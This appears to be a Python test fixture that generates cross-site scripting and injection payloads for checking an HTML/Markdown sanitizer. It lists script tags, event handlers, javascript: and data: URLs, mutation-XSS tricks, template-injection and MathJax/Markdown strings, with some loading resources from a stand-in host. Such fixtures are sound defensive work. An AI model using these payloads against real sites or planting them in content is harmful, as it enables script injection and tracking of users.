"""What such a stranger writes. Each payload calls `hit`, or asks another host for something, if anything of it acts."""

from __future__ import annotations

from collections.abc import Iterator

_CALL = "hit(1)"
_HOST = "http://stranger.example"
_SCHEMES = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    " javascript:hit(1)",
    "java\tscript:hit(1)",
    "java&#10;script:hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A;avascript&colon;hit(1)",
    "\x01javascript:hit(1)",
    "vbscript:hit(1)",
    "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "javascript://%0ahit(1)",
    "feed:javascript:hit(1)",
)
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "OnBegin")
_WHOLE = (
    "<script>hit(1)</script>",
    "<SCRIPT SRC=http://stranger.example/x.js></SCRIPT>",
    "<script/x>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><script xlink:href=http://stranger.example/x.js /></svg>",
    "<math><mtext><script>hit(1)</script></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>hit(1)</script></annotation-xml></math>",
    "<math href=javascript:hit(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit(1)>x</maction></math>",
    "<style>@import 'http://stranger.example/x.css';</style>",
    "<style>*{background:url(http://stranger.example/x.png)}</style>",
    "<p style=\"background:url('http://stranger.example/x.png')\">words</p>",
    "<p style='behavior:url(http://stranger.example/x.htc)'>words</p>",
    "<link rel=stylesheet href=http://stranger.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(1)'>",
    "<meta http-equiv=refresh content='0;url=http://stranger.example/'>",
    "<base href=http://stranger.example/>",
    "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object data=javascript:hit(1)></object>",
    "<embed src=javascript:hit(1)>",
    "<form action=javascript:hit(1)><button autofocus>words</button></form>",
    "<button formaction=javascript:hit(1) form=quiz>words</button>",
    "<input autofocus onfocus=hit(1)>",
    "<details open ontoggle=hit(1)><summary>words</summary></details>",
    "<video><source onerror=hit(1) src=x></video>",
    "<audio src=http://stranger.example/x.mp3 autoplay></audio>",
    "<img src=x onerror=hit(1)>",
    "<img src=x:x onerror=hit(1) alt=words",
    "<img src=http://stranger.example/x.png alt=words>",
    "<img srcset='http://stranger.example/x.png 2x' src=x alt=words>",
    "<img/src=x/onerror=hit(1)>",
    "<img src=`x`onerror=hit(1)>",
    '<img alt="`><script>hit(1)</script>`" src=x>',
    "<svg onload=hit(1)>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit(1)><text y=20>words</text></a></svg>",
    "<svg><use href=http://stranger.example/x.svg#x /></svg>",
    "<svg><foreignObject><iframe onload=hit(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></p></noscript>",
    "<template><img src=x onerror=hit(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=hit(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=hit(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=hit(1)>'></xmp>",
    "<!--><img src=x onerror=hit(1)>-->",
    "<!-- --!><img src=x onerror=hit(1)> -->",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "]]><img src=x onerror=hit(1)>",
    "<?xml version='1.0'?><img src=x onerror=hit(1)>",
    "</p></div></main></body><img src=x onerror=hit(1)>",
    "</script><script>hit(1)</script>",
    "</title></head><img src=x onerror=hit(1)>",
    '"><img src=x onerror=hit(1)>',
    "'><img src=x onerror=hit(1)>",
    '" autofocus onfocus="hit(1)" x="',
    "&lt;img src=x onerror=hit(1)&gt;",
    "&amp;lt;img src=x onerror=hit(1)&amp;gt;",
    "\uff1cimg src=x onerror=hit(1)\uff1e",
    "<\u0130mg src=x onerror=hit(1)>",
    "<img src=x onerror=\u2028hit(1)>",
    "<a href='x' target=_blank onclick=hit(1)>words</a>",
    "<a href='x' ping=http://stranger.example/>words</a>",
    "{{ cycler.__init__.__globals__ }}",
    "{{ constructor.constructor('hit(1)')() }}",
    "{% include 'http://stranger.example/' %}",
    "${hit(1)}",
    r"$\href{javascript:hit(1)}{x}$",
    r"$\text{<img src=x onerror=hit(1)>}$",
    r"$\text{<script>hit(1)</script>}$",
    '$\\text{<img\tsrc="x"\tonerror="hit(1)"/>}$',
    r"$\mbox{<svg><script>hit(1)</script></svg>}$",
    r"$\style{background:url(http://stranger.example/x.png)}{x}$",
    r"$\class{quiz}{x}$ $\color{url(http://stranger.example/x.png)}{x}$",
    r"$\class{x" + '" onmouseover="hit(1)' + r"}{x}$",
    r"\(<img src=x onerror=hit(1)>\)",
    "`</code><img src=x onerror=hit(1)>`",
    "words{onclick=hit(1) style=background:url(http://stranger.example/x.png)}",
    "[words](x){onclick=hit(1) href=javascript:hit(1)}",
    '[words](x "&quot; onmouseover=&quot;hit(1)")',
    '![" onerror="hit(1)](x.png)',
    "[words][javascript:hit(1)]",
    "<javascript:hit(1)>",
    "<data:text/html,<script>hit(1)</script>>",
)


def payloads() -> Iterator[str]:
    """Yield all payloads, each on one line."""
    yield from _WHOLE
    for scheme in _SCHEMES:
        yield f"[words]({scheme})"
        yield f"[words](<{scheme}>)"
        yield f"![words](<{scheme}>)"
        yield f'<a href="{scheme}">words</a>'
        yield f"<img alt=words src='{scheme}'>"
    for handler in _HANDLERS:
        yield f"<b {handler}={_CALL}>words</b>"
        yield f'<img src="{_HOST}/x.png" alt="words" {handler}="{_CALL}">'
        yield f"<details open {handler}\n={_CALL}>".replace("\n", "\x0c")
